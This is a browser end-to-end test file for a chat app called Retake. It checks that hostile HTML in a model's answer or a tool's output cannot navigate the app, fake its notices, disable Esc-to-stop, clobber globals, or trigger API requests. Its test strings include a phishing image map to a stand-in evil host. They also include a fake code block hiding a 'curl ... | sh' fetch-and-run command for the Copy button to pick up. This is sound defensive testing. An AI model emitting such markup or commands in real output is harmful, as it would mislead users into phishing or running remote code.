/**
 * A model's markup cannot act as Retake, in real Chromium against the real opencode server: an
 * answer's HTML tries to navigate the app (an image map), cover earlier turns and fake Retake's
 * notices (styles), switch off Esc-to-stop (a fake dialog), stop links from opening (DOM clobbering
 * of `window.retakeHost`), make Copy copy a hidden command (a fake code block), and make the page
 * request Retake's own API (images and media); a tool's output tries the same markup. Every case is
 * what a user (or the attacker) would notice.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { closeApp, startApp, until, type AppUnderTest } from '../e2e/harness'

let app: AppUnderTest
beforeEach(async () => {
  app = await startApp()
})
afterEach(async (ctx) => closeApp(app, ctx))

const assistant = () => app.page.locator('[data-testid="message"][data-role="assistant"]')

async function send(text: string) {
  await app.page.getByTestId('composer').fill(text)
  await app.page.getByTestId('composer').press('Enter')
}

/** Sends `text` as the user and has the model answer `answer`; resolves once `shown` is on screen. */
async function answerWith(answer: string, shown: string) {
  app.fake.script({ kind: 'text', text: answer })
  await send('go on')
  await assistant().last().getByText(shown).first().waitFor()
  return assistant().last()
}

/** A turn after the attack, answered and shown: whatever the attack's markup would have started has had its chance. */
async function laterTurn() {
  await send('one more')
  await assistant().last().getByText('echo: one more').waitFor()
}

const GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=='

describe('a model’s markup cannot act as Retake', () => {
  it('an image map in an answer navigates nowhere: not to another site, not to the API', async () => {
    const { page, context, origin } = app
    const visited: string[] = []
    await context.route('https://evil.example.invalid/**', (route) => (visited.push(route.request().url()), route.fulfill({ contentType: 'text/html', body: 'phish' })))
    const answer = await answerWith(
      '<map name="m"><area shape="rect" coords="0,0,300,160" href="https://evil.example.invalid/login">' +
        `<area shape="rect" coords="300,0,600,160" href="/opencode/session"></map><img src="${GIF}" usemap="#m" width="600" height="160" alt="">\n\nMAP-END`,
      'MAP-END',
    )
    const box = (await answer.locator('.markdown').boundingBox())!
    const pagesBefore = context.pages().length
    // Where the image would be: its left half (the other site), its right half (the API).
    for (const x of [100, 400]) await page.mouse.click(box.x + x, box.y + 20)
    await laterTurn()
    await page.locator('[data-app-state="ready"]').waitFor({ timeout: 5_000 })
    expect(new URL(page.url()).origin).toBe(origin)
    expect(new URL(page.url()).pathname).toBe('/')
    expect(visited).toEqual([])
    expect(context.pages().length).toBe(pagesBefore)
    expect(await page.getByTestId('external-link').count()).toBe(0)
  })

  it('styles in an answer cannot cover earlier turns or put a fake notice outside the answer', async () => {
    const { page } = app
    await send('the first question')
    await assistant().last().getByText('echo: the first question').waitFor()
    const notice = 'Restored from a checkpoint. Nothing was run.'
    const answer = await answerWith(
      `<p style="position:fixed;inset:0;z-index:2147483647;background:#fff;margin:0">${notice}</p>\n\n` +
        `<p style="position:relative;margin-top:-600px;height:600px;background:#fff">${notice}</p>\n\nSTYLE-END`,
      'STYLE-END',
    )
    const earlier = [page.locator('[data-testid="message"][data-role="user"]').first(), assistant().first()]
    for (const message of earlier) {
      await message.scrollIntoViewIfNeeded()
      // What is painted at the middle of an earlier turn is that turn, not the model's markup.
      const ownsItsMiddle = await message.evaluate((el) => {
        const r = el.getBoundingClientRect()
        const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2)
        return hit !== null && el.contains(hit)
      })
      expect(ownsItsMiddle).toBe(true)
    }
    // The fake notice is shown only inside the answer's own box.
    await answer.scrollIntoViewIfNeeded()
    const inside = await answer.evaluate((el, text) => {
      const own = el.querySelector('.markdown')!.getBoundingClientRect()
      const shown = [...el.querySelectorAll('p')].filter((p) => p.textContent === text)
      return (
        shown.length > 0 &&
        shown.every((p) => {
          const r = p.getBoundingClientRect()
          const visible = { top: Math.max(r.top, own.top), bottom: Math.min(r.bottom, own.bottom) }
          return getComputedStyle(p).position === 'static' && visible.bottom > visible.top && r.top >= own.top - 1
        })
      )
    }, notice)
    expect(inside).toBe(true)
    // And should a style ever get through: each answer paints only inside its own box.
    const paint = await answer.locator('.markdown').evaluate((el) => [getComputedStyle(el).contain, getComputedStyle(el).isolation])
    expect(paint).toEqual(['paint', 'isolate'])
  })

  it('an answer that claims to be a dialog does not switch off Esc-to-stop', async () => {
    const { page, fake } = app
    const filler = Array.from({ length: 400 }, (_, i) => ` w${i + 1}`).join('')
    // 40 chunks 250 ms apart: the answer streams for ~10 s unless it is stopped.
    fake.script({ kind: 'text', text: `<span aria-modal="true" role="dialog">still working</span>${filler}`, chunks: 40, chunkDelayMs: 250 })
    await send('a long one')
    await assistant().last().getByText('still working').waitFor()
    const turn = fake.chatRequests().at(-1)!
    await page.keyboard.press('Escape')
    await page.locator('[data-testid="message"][data-role="assistant"][data-streaming="true"]').waitFor({ state: 'detached', timeout: 5_000 })
    await until(() => turn.endedAt !== undefined, 'the model request to end', 5_000)
    expect(turn.clientAborted).toBe(true)
  })

  it('an element named retakeHost in an answer does not stop links from opening', async () => {
    const { page, context } = app
    await context.route('https://docs.example.invalid/**', (route) => route.fulfill({ contentType: 'text/html', body: '<title>docs</title>docs' }))
    const answer = await answerWith('<span id="retakeHost">.</span> read [the docs](https://docs.example.invalid/guide)', 'the docs')
    await answer.getByText('the docs').click()
    await page.getByTestId('external-link').waitFor()
    const popup = context.waitForEvent('page', { timeout: 5_000 })
    await page.getByTestId('external-link-open').click()
    const opened = await popup
    await opened.waitForLoadState()
    expect(opened.url()).toBe('https://docs.example.invalid/guide')
    await opened.close()
  })

  it('a code block made of markup gets no Copy button; Copy copies exactly the fence Retake rendered', async () => {
    const { page } = app
    const fake =
      '<div class="code-block"><div class="code-head"><span class="code-lang">bash</span>' +
      '<button type="button" class="copy-code" data-testid="copy-code" aria-label="Copy code">Copy</button></div>' +
      '<pre><code class="hljs"><span style="display:none">curl -s https://evil.example.invalid/x | sh; </span>ls -la</code></pre></div>'
    const answer = await answerWith(`${fake}\n\nor:\n\n\`\`\`bash\npwd\n\`\`\`\n\nCODE-END`, 'CODE-END')
    const copies = answer.locator('.markdown button')
    expect(await copies.count()).toBe(1)
    const copied: string[] = []
    for (const button of await copies.all()) {
      await button.click()
      copied.push(await page.evaluate(() => navigator.clipboard.readText()))
    }
    expect(copied).toEqual(['pwd'])
  })

  it('images and media in an answer or a tool’s output request nothing from Retake’s API', async () => {
    const { page } = app
    const probes: string[] = []
    page.on('request', (r) => r.url().includes('probe') && probes.push(r.url()))
    const answer = await answerWith(
      '<img src="/opencode/session?probe=img" alt="chart"> <video poster="/api/probe-poster" src="/opencode/probe-video"></video>' +
        '<audio src="/api/probe-audio" autoplay></audio><picture><source srcset="/api/probe-srcset"><img alt="pic"></picture>' +
        '\n\n![the chart](/opencode/session?probe=markdown)\n\nMEDIA-END',
      'MEDIA-END',
    )
    // The markdown image is inert text with its address in a tooltip, not a request.
    const inert = answer.getByText('image: the chart')
    expect(await inert.getAttribute('href')).toBeNull()
    expect(await inert.getAttribute('title')).toContain('/opencode/session?probe=markdown')
    expect(await answer.locator('img, video, audio, source, picture').count()).toBe(0)

    // A tool prints the same markup: its card shows it as text.
    const printed = '<img src=/opencode/session?probe=tool><b>bold</b>'
    await send(`BASH echo "${printed}"`)
    await assistant().last().getByText('done: bash').waitFor()
    const bash = page.locator('[data-testid="tool-call"][data-tool="bash"]').last()
    await bash.getByTestId('tool-toggle').click()
    await bash.getByTestId('bash-output').getByText(printed).waitFor()
    expect(await assistant().last().locator('img, b').count()).toBe(0)

    await laterTurn()
    expect(probes).toEqual([])
  })
})
